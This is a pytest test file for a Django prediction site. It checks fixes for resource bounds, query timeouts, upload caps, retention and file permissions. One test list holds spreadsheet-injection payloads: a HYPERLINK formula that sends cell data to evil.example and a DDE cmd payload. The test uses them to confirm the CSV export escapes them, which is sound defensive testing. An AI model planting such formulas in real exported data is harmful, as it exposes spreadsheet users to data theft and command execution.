"""Issue 13, bounds: each finding re-run at small scale (limits set small through settings) and shown fixed."""

import csv
import datetime as dt
import io
import os
import stat
import time
import tracemalloc
import uuid
from io import StringIO

import pytest
from django.contrib.auth.models import AnonymousUser
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext

from bench import slow_clients
from mlsite.settings import create_private_file
from predictor.history import batch, selectors
from predictor.models import Prediction
from predictor.ops.middleware import RequestBodyLimitMiddleware

pytestmark = pytest.mark.django_db

HISTORY = "/predictions/"
EXPORT = "/predictions.csv"
UPLOAD = "/predictions/upload/"


def add_rows(version, *, count: int, first: dt.datetime, step: dt.timedelta, species=("Cat", "Dog"), **fields):
    Prediction.objects.bulk_create(
        Prediction(
            created_at=first + step * n,
            inputs={"height": 20 + n % 50, "weight": 3 + n % 30},
            species=species[n % len(species)],
            probability=0.8,
            probabilities={name: (0.8 if name == species[n % len(species)] else 0.2) for name in species},
            model_version=version,
            **fields,
        )
        for n in range(count)
    )


def upload(client, text: str | bytes, name: str = "animals.csv"):
    """Post a file; an accepted one is a job (run at once in tests): then the redirect its finished page gives."""
    content = text.encode() if isinstance(text, str) else text
    response = client.post(UPLOAD, {"file": SimpleUploadedFile(name, content, content_type="text/csv")})
    if response.status_code == 302 and response["Location"].startswith("/jobs/"):
        return client.get(response["Location"])  # a finished batch's job page redirects to its results
    return response


def read_download(client, batch_page: str) -> list[list[str]]:
    response = client.get(batch_page + "results.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


# 3. The results page over a year of rows: the chart is one statement, not one per day and species


def test_a_year_window_charts_every_day_in_a_bounded_number_of_queries(admin_client, trained_version, settings):
    add_rows(trained_version, count=200, first=dt.datetime(2026, 1, 1, 12, tzinfo=dt.UTC), step=dt.timedelta(days=1))
    settings.ML_MODEL_CHECK_SECONDS = 60  # as a running process answers: its model and served models loaded
    admin_client.get(HISTORY)
    with CaptureQueriesContext(connection) as queries:
        response = admin_client.get(HISTORY, {"date_from": "2025-12-01", "date_to": "2026-11-30"})
    assert response.status_code == 200
    assert len(queries) <= 15  # was 2 species x 365 days of counts, each reading the whole window
    daily = response.context["daily"]
    assert len(daily["days"]) == 365
    assert daily["total"] == 200
    assert sum(daily["species"]["Cat"]) == 100
    assert daily["species"]["Dog"][daily["days"].index("2026-01-02")] == 1


def test_each_chart_day_is_counted_by_its_own_time_range_only(admin_client, trained_version):
    # The window's own bounds next to a day's let the database scan the whole window per day.
    add_rows(trained_version, count=10, first=dt.datetime(2026, 3, 1, 12, tzinfo=dt.UTC), step=dt.timedelta(days=1))
    with CaptureQueriesContext(connection) as queries:
        admin_client.get(HISTORY, {"date_from": "2026-03-01", "date_to": "2026-03-05"})
    chart = [query["sql"] for query in queries if "UNION ALL" in query["sql"]]
    assert len(chart) == 1
    assert chart[0].count("created_at") == 2 * 5  # one lower and one upper bound per day, nothing more


def test_a_valid_window_with_no_rows_is_an_empty_page(admin_client, trained_version):
    response = admin_client.get(HISTORY, {"date_from": "2001-01-01", "date_to": "2001-12-31"})
    assert response.status_code == 200
    assert response.context["daily"]["total"] == 0


def test_a_query_past_the_time_limit_is_stopped(settings, db):
    settings.STAFF_QUERY_TIMEOUT_MS = 50
    endless = (
        "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < 1000000000) SELECT count(*) FROM c"
    )
    started = time.monotonic()
    with pytest.raises(selectors.QueryTooSlow), selectors.time_limited(), connection.cursor() as cursor:
        cursor.execute(endless)
    assert time.monotonic() - started < 2
    with connection.cursor() as cursor:  # the connection is still usable
        cursor.execute("SELECT 1")


def test_a_results_page_past_the_time_limit_asks_for_fewer_days(admin_client, trained_version, settings):
    add_rows(trained_version, count=3000, first=dt.datetime(2026, 1, 1, tzinfo=dt.UTC), step=dt.timedelta(hours=2))
    settings.STAFF_QUERY_TIMEOUT_MS = 1
    response = admin_client.get(HISTORY, {"date_from": "2025-12-01", "date_to": "2026-11-30"})
    assert response.status_code == 503
    assert b"This query took too long" in response.content
    assert b"Narrow the dates" in response.content


# 6. Dates outside the calendar: 400 naming the field, on the page, its CSV and the API


@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01", "1999-12-31"])
def test_dates_outside_the_calendar_are_refused_naming_the_field(admin_client, trained_version, day):
    page = admin_client.get(HISTORY, {"date_to": day})
    assert page.status_code == 400
    assert "date_to" in page.context["form"].errors
    export = admin_client.get(EXPORT, {"date_to": day})
    assert export.status_code == 400
    assert b"date_to: Choose a day from 2000-01-01" in export.content
    api = admin_client.get("/api/predictions", {"created_before": f"{day}T00:00:00"})
    assert api.status_code == 422
    assert [error["field"] for error in api.json()["errors"]] == ["created_before"]


# 4. Slow clients cannot pin the server (a real gunicorn with gunicorn.conf.py)


@pytest.mark.slow
def test_slow_post_sockets_beyond_the_worker_count_leave_the_site_answering():
    report = slow_clients.run(workers=2, slow_sockets=6)
    assert report.worst < 3, report.summary()  # with sync workers: no answer within 15 s


# 4. Request bodies: capped on every path, file parts included


@pytest.fixture
def upload_temp_dir(settings, tmp_path):
    """Where Django spools uploaded files: empty after every request, whatever the request did."""
    folder = tmp_path / "upload-temp"
    folder.mkdir()
    settings.FILE_UPLOAD_TEMP_DIR = str(folder)
    return folder


def test_a_large_multipart_post_to_the_form_is_refused_before_it_is_read(client, upload_temp_dir, db):
    big = SimpleUploadedFile("big.bin", b"x" * 3_000_000)
    response = client.post("/", {"height": "30", "weight": "4", "file": big})
    assert response.status_code == 413
    assert "at most 2.5\xa0MB can be sent here" in response.content.decode()
    assert list(upload_temp_dir.iterdir()) == []


def test_the_api_answers_a_large_body_with_json_413(client, db):
    response = client.post("/api/v1/predictions", b"[" + b" " * 3_000_000 + b"]", content_type="application/json")
    assert response.status_code == 413
    assert response.json() == {
        "detail": "The request body is too large: at most 2,621,440 bytes are accepted.",
        "errors": [],
        "request_id": response["X-Request-ID"],
    }


def test_a_body_without_a_length_is_refused(db):
    # The test client always sends a length; gunicorn passes a chunked body without one.
    request = RequestFactory().post("/", b"", content_type="text/plain", HTTP_TRANSFER_ENCODING="chunked")
    request.META.pop("CONTENT_LENGTH", None)
    request.user = AnonymousUser()  # set by AuthenticationMiddleware, which runs first
    answer = RequestBodyLimitMiddleware(lambda request: pytest.fail("the body was let through"))(request)
    assert answer.status_code == 411
    assert b"Content-Length" in answer.content


def test_the_upload_page_alone_takes_bodies_up_to_the_upload_cap(admin_client, trained_version, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 2000
    settings.BATCH_UPLOAD_MAX_BYTES = 100_000
    rows = "Height,Weight\n" + "77,36\n" * 1000  # 6 kB
    assert upload(admin_client, rows).status_code == 302
    refused = admin_client.post("/", {"height": "30", "weight": "4", "note": "x" * 6000})
    assert refused.status_code == 413
    over = upload(admin_client, "Height,Weight\n" + "77,36\n" * 30_000)  # 180 kB
    assert over.status_code == 413


def test_a_refused_upload_leaves_no_temporary_file(
    admin_client, trained_version, settings, upload_temp_dir, monkeypatch
):
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1000  # spooled to a temporary file
    settings.BATCH_UPLOAD_MAX_ROWS = 500
    response = upload(admin_client, "Height,Weight\n" + "77,36\n" * 1000)  # refused by the request: too many rows
    assert response.status_code == 400
    assert list(upload_temp_dir.iterdir()) == []
    response = upload(admin_client, "Height,Weight\n" + "77,36\n" * 400 + "77,heavy\n")  # refused before queueing
    assert response.status_code == 400
    assert list(upload_temp_dir.iterdir()) == []
    monkeypatch.setattr(batch, "PRE_QUEUE_CHECK_SECONDS", 0)  # a file too long to check before queueing
    monkeypatch.setattr(batch, "PRE_QUEUE_CHECK_CHUNK_ROWS", 1)
    response = upload(admin_client, "Height,Weight\n" + "77,36\n" * 400 + "77,heavy\n")  # refused by its job
    assert response.context["job"].status == "failed"
    assert list(upload_temp_dir.iterdir()) == []


# 9. The row cap is applied while the file is read


def test_the_row_cap_stops_reading_at_the_first_extra_row(settings):
    content = b"Height,Weight\n" + b"1,1\n" * 2_000_000  # 8 MB of short rows
    source = io.BytesIO(content)
    tracemalloc.start()
    try:
        with pytest.raises(batch.BatchFileError, match="more than 1,000 rows"):
            batch.read_batch_csv(source, max_rows=1000)
        _now, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert source.tell() < 100_000  # stopped near row 1,001 of 2,000,000
    assert peak < 1_000_000


def test_an_upload_over_the_row_cap_is_refused_and_stores_nothing(admin_client, trained_version, settings):
    settings.BATCH_UPLOAD_MAX_ROWS = 100
    response = upload(admin_client, "Height,Weight\n" + "77,36\n" * 50_000)
    assert response.status_code == 400
    assert "more than 100 rows" in response.context["form"].errors["file"][0]
    assert not Prediction.objects.exists()


def test_blank_lines_do_not_count_against_the_row_cap(admin_client, trained_version, settings):
    settings.BATCH_UPLOAD_MAX_ROWS = 2
    assert upload(admin_client, "Height,Weight\n77,36\n\n\n,\n90,48\n\n").status_code == 302


# 9. Kept uploads are deleted after the retention period


def test_uploads_older_than_the_retention_period_are_deleted(admin_client, trained_version, settings):
    settings.BATCH_UPLOAD_RETENTION_DAYS = 30
    old_page = upload(admin_client, "Height,Weight\n77,36\n")["Location"]
    new_page = upload(admin_client, "Height,Weight\n90,48\n")["Location"]
    storage = batch.storages[batch.UPLOADS_STORAGE]
    old_batch = old_page.rstrip("/").rsplit("/", 1)[-1]
    month_ago = time.time() - 31 * 86400
    os.utime(storage.path(f"{old_batch}.csv"), (month_ago, month_ago))
    out = StringIO()
    call_command("delete_old_uploads", stdout=out)
    assert "Deleted 1 upload(s) older than 30 days." in out.getvalue()
    assert admin_client.get(old_page + "results.csv").status_code == 404
    assert admin_client.get(old_page).status_code == 200  # the predictions stay
    assert len(read_download(admin_client, new_page)) == 2


def test_temporary_files_left_by_a_killed_worker_are_deleted_a_day_later(upload_temp_dir, db):
    stale, fresh = upload_temp_dir / "tmpa1b2c3.upload.csv", upload_temp_dir / "tmpd4e5f6.upload.csv"
    other = upload_temp_dir / "tmpzzz.not-an-upload"
    for path in (stale, fresh, other):
        path.write_bytes(b"Height,Weight\n")
    two_days_ago = time.time() - 2 * 86400
    for path in (stale, other):
        os.utime(path, (two_days_ago, two_days_ago))
    call_command("delete_old_uploads", stdout=StringIO())
    assert sorted(path.name for path in upload_temp_dir.iterdir()) == [fresh.name, other.name]


def test_delete_old_uploads_with_nothing_uploaded_deletes_nothing(db):
    out = StringIO()
    call_command("delete_old_uploads", stdout=out)
    assert "Deleted 0 upload(s)" in out.getvalue()


# 9. train_model --data: regular files only, bounded lines


def test_train_model_refuses_what_is_not_a_regular_file(tmp_path, db):
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    for path in ["/dev/zero", str(fifo), str(tmp_path)]:
        with pytest.raises(CommandError, match="not a regular file"):
            call_command("train_model", "--data", path, stdout=StringIO())


def test_train_model_refuses_a_line_longer_than_the_cap_with_bounded_memory(tmp_path, settings, db):
    settings.TRAINING_MAX_LINE_BYTES = 100_000
    path = tmp_path / "one-line.csv"
    path.write_bytes(b"Height,Weight,Species\n" + b"7" * 20_000_000)  # 20 MB, no line end
    tracemalloc.start()
    try:
        with pytest.raises(CommandError, match="line 2 is longer than 100,000 bytes"):
            call_command("train_model", "--data", str(path), stdout=StringIO())
        _now, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 5_000_000


# 5 and 11. The batch results CSV: spreadsheet-safe cells, species names quoted safely

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


def test_formulas_in_any_uploaded_column_come_back_as_text(admin_client, trained_version):
    rows = [["Height", "Weight", "note", "=header"]] + [["77", "36", formula, formula] for formula in FORMULAS]
    text = "\n".join(",".join(f'"{cell.replace(chr(34), chr(34) * 2)}"' for cell in row) for row in rows)
    response = upload(admin_client, text)
    assert response.status_code == 302
    header, *results = read_download(admin_client, response["Location"])
    assert header[:4] == ["Height", "Weight", "note", "'=header"]
    assert [row[2] for row in results] == [f"'{formula}" for formula in FORMULAS]
    assert [row[3] for row in results] == [f"'{formula}" for formula in FORMULAS]


SPECIES = ['Ca"t', "Dog, large", "Fish\nstick", "=Bird", "1"]


def test_species_names_with_quotes_commas_newlines_and_formulas_keep_their_probabilities(make_version):
    version = make_version(class_counts=dict.fromkeys(SPECIES, 10))
    batch_id = uuid.uuid4()
    add_rows(
        version,
        count=len(SPECIES),
        first=dt.datetime(2026, 3, 1, tzinfo=dt.UTC),
        step=dt.timedelta(minutes=1),
        species=SPECIES,
        source=Prediction.Source.BATCH,
        batch_id=batch_id,
    )
    storage = batch.storages[batch.UPLOADS_STORAGE]
    storage.save(f"{batch_id}.csv", ContentFile(b"Height,Weight\n" + b"77,36\n" * len(SPECIES)))
    text = b"".join(batch.results_csv(batch_id)).decode()
    header, *rows = list(csv.reader(io.StringIO(text)))
    probability_columns = [f"probability_{name}" for name in sorted(SPECIES)]
    assert header == ["Height", "Weight", "predicted_species", *probability_columns, "model_version"]
    for row, name in zip(rows, SPECIES, strict=True):
        cells = dict(zip(header, row, strict=True))
        assert cells["predicted_species"] == ("'" + name if name.startswith("=") else name)
        assert float(cells[f"probability_{name}"]) == 0.8
        assert sorted(float(cells[column]) for column in probability_columns) == [0.2] * 4 + [0.8]


# 6. Admin search never fails on what str.isdigit calls a digit


@pytest.mark.parametrize("term", ["²", "٣", "1" * 40, "9223372036854775808", "-1", "12"])
def test_admin_search_answers_any_term(admin_client, trained_version, term):
    response = admin_client.get("/admin/predictor/prediction/", {"q": term})
    assert response.status_code == 200


# The SQLite file (and any secret file the site writes) is readable by its owner only


def test_the_database_file_is_created_private_and_an_existing_one_is_tightened(tmp_path):
    new = tmp_path / "new.sqlite3"
    create_private_file(new)
    assert stat.S_IMODE(new.stat().st_mode) == 0o600
    existing = tmp_path / "existing.sqlite3"
    existing.write_bytes(b"data")
    existing.chmod(0o644)
    create_private_file(existing)
    assert stat.S_IMODE(existing.stat().st_mode) == 0o600
    assert existing.read_bytes() == b"data"
